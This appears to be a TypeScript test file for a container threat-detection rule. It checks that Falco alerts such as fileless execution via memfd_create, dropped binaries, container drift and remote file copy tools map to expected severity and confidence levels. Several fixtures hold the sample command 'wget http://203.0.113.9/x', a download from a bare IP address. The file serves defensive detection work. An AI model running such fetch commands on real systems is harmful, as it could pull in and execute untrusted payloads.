import { falcoUnexpectedBinary } from '../../../../shared/detection/rules/falco-unexpected-binary.ts';
import { falcoCases } from '../threat-cases.ts';

describe('falco-unexpected-binary', () => {
  falcoCases(falcoUnexpectedBinary, {
    fires: [
      ['a binary from memory', { rule: 'Fileless execution via memfd_create' }, { severity: 'high', confidence: 0.7 }],
      ['a new binary', { rule: 'Drop and execute new binary in container' }, { severity: 'medium', confidence: 0.5 }],
      ['drift', { rule: 'Container Drift Detected (chmod)' }, { severity: 'medium', confidence: 0.5 }],
      [
        'a program from a bare address',
        { rule: 'Launch Ingress Remote File Copy Tools in Container', command: 'wget http://203.0.113.9/x' },
        { severity: 'medium', confidence: 0.55 },
      ],
      [
        'a binary from memory, which says more than how it came',
        { rule: 'Fileless execution via memfd_create', command: 'wget http://203.0.113.9/x' },
        { severity: 'high', confidence: 0.7 },
      ],
      [
        'a program from a named host',
        { rule: 'Launch Ingress Remote File Copy Tools in Container', command: 'wget https://example.com/x' },
        { severity: 'medium', confidence: 0.5 },
      ],
    ],
    misses: [['a name that is only like its own', { rule: 'Execution from /dev' }]],
  });
});
